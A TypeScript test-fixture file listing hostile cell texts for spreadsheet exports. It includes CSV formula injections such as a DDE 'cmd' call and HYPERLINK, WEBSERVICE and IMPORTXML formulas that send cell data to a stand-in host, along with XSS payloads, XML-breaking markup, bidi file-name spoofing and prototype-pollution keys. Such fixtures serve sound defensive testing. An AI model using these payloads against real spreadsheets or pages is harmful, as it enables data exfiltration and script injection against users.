/** The longest text that a cell takes ("Excel specifications and limits"). */
export const longestText = 32_767;

const code = (...units: readonly number[]): string => String.fromCharCode(...units);

/** Read as typed, these would calculate, fetch or start something (OWASP, "CSV Injection"). */
export const formulas = [
  '=1+1',
  '+2+2',
  '-3+3',
  '@SUM(4+4)',
  '\t=5+5',
  '\r=6+6',
  '\n=7+7',
  "'=8+8",
  '＝9+9',
  '=HYPERLINK("https://elsewhere.test/?"&E6,"看")',
  '=WEBSERVICE("https://elsewhere.test/")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("https://elsewhere.test/",E6),"//a")',
  '"a","=10+10"',
  'a;=11+11',
] as const;

/** Put into a page or a part as they are, these would be more than text. */
export const markup = [
  '<img src=x onerror="window.harmed=1">',
  '<script>window.harmed=2</script>',
  '<svg/onload=window.harmed=3>',
  '<a href="javascript:window.harmed=4">开</a>',
  '"><iframe srcdoc="<script>parent.harmed=5</script>">',
  "');window.harmed=6;//",
  '</t></is></c><c r="A1"><f>12+12</f></c>',
  ']]><!-- -->&lt;&amp;&#0;&#x41;',
  '${window.harmed=7}{{window.harmed=8}}',
] as const;

/** Shown or stored carelessly, these would mislead, break or get lost. */
export const oddCharacters = [
  `区${code(0x202e)}xslx.exe`,
  `${code(0x2066)}区${code(0x2069)}${code(0x200f)}甲`,
  `隐${code(0x200b)}形${code(0x200d, 0xfeff)}字`,
  `孤${code(0xd800)}高`,
  `低${code(0xdc00)}孤`,
  `零${code(0)}一${code(1)}删${code(0x7f)}非${code(0xffff)}`,
  `_x0041__x000D_`,
  `表情${code(0xd83d, 0xde00)}`,
  `a${code(0x301).repeat(60)}`,
] as const;

/** Names that objects inherit, and texts that Excel takes for something else. */
export const disguised = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', '#REF!x', 'TRUE', '1e5', '2012-1-1', '00123', '12%', "'", "''", '列1', 'R1C1', 'A1'] as const;

export const hostileTexts: readonly string[] = [...formulas, ...markup, ...oddCharacters, ...disguised];

/** As long as a cell takes. */
export const longTexts: readonly string[] = [
  `=${'1+'.repeat(longestText)}`,
  '<'.repeat(longestText),
  '&'.repeat(longestText),
  code(0xd800).repeat(longestText),
  `x${code(0xd83d, 0xde00).repeat(longestText)}`,
  '_x0041_'.repeat(longestText),
].map((text) => text.slice(0, longestText));
